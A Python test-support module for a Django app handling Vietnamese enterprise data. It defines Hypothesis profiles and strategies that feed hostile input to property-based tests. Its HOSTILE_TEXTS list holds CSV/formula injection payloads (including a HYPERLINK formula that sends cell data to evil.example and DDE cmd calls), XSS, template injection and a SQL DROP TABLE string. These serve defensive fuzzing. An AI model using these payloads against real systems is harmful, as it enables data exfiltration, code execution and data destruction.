"""Hypothesis settings and strategies shared by the property-based tests of hostile input.

Every property test runs under ``HOSTILE`` (a modest, derandomized number of examples, so the
suite stays fast and the same on every run); ``HYPOTHESIS_PROFILE=thorough`` runs many more,
random ones. Tests that write run each example inside ``rolled_back()``, so every example starts
from the same database.
"""

from __future__ import annotations

import datetime as dt
import os
from collections.abc import Iterator
from contextlib import contextmanager

from django.db import transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

settings.register_profile(
    "hostile",
    max_examples=60,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.large_base_example],
)
settings.register_profile(
    "thorough",
    max_examples=1000,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.large_base_example],
)
HOSTILE = settings.get_profile(os.environ.get("HYPOTHESIS_PROFILE", "hostile"))
# Through the views (a whole request and page per example): fewer examples.
THROUGH_VIEWS = settings(HOSTILE, max_examples=25 if HOSTILE.max_examples <= 60 else HOSTILE.max_examples // 4)


@contextmanager
def rolled_back() -> Iterator[None]:
    """Whatever the block writes is undone at its end (a savepoint inside the test's transaction)."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


# Text a hostile or careless user types: formulas (CSV injection), markup, template syntax,
# SQL, control and invisible characters, full-width and combining Vietnamese, very long text.
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ request.user.password }}{% debug %}",
    "'; DROP TABLE enterprises_enterprise; --",
    "Công ty\u200b TNHH\u00a0Đống\u0110a",
    "Ｃông ty １２３",
    "Co\u0302ng ty ho\u031bp tác",
    "\u202etxt.exe",
    "Công ty\x00 TNHH",
    "A" * 5000,
    " ",
    "",
]

hostile_text = st.one_of(st.sampled_from(HOSTILE_TEXTS), st.text(max_size=300))

# Numbers as typed in a form: digits with Vietnamese or English separators, signs, exponents,
# NaN and infinities, huge and tiny values, words.
number_text = st.one_of(
    st.sampled_from(
        [
            "0",
            "-0",
            "-1",
            "1.5",
            "1,5",
            "1.000.000",
            "1,000,000",
            "1e3",
            "1E999999999",
            "-1e-999999999",
            "NaN",
            "nan",
            "Infinity",
            "-inf",
            "9" * 30,
            "0." + "0" * 40 + "1",
            "12 000",
            "١٢٣",
            "１２３",
            "0x10",
            "1_000",
            "",
            " ",
            "mười",
            "<script>",
            "=1+1",
        ]
    ),  # fmt: skip
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.floats().map(repr),
    st.text(alphabet="0123456789.,-+eE ", max_size=25),
    st.text(max_size=20),
)

# A spreadsheet cell as openpyxl can hold it: every type, and hostile text.
cell_value = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**62), max_value=2**62),
    st.floats(allow_nan=False, allow_infinity=False),
    st.decimals(allow_nan=False, allow_infinity=False, places=4, min_value=-(10**12), max_value=10**12),
    st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(9999, 12, 31)),
    st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(9999, 12, 31)),
    st.times(),
    hostile_text,
    number_text,
)


@st.composite
def valid_tax_codes(draw) -> str:
    """A tax code with a right check digit, sometimes with a branch number."""
    from enterprises.validators import tax_code_check_digit

    while True:
        first_nine = draw(st.text(alphabet="0123456789", min_size=9, max_size=9))
        check = tax_code_check_digit(first_nine)
        if check is not None:
            break
    code = f"{first_nine}{check}"
    if draw(st.booleans()):
        code += "-" + f"{draw(st.integers(min_value=1, max_value=999)):03d}"
    return code
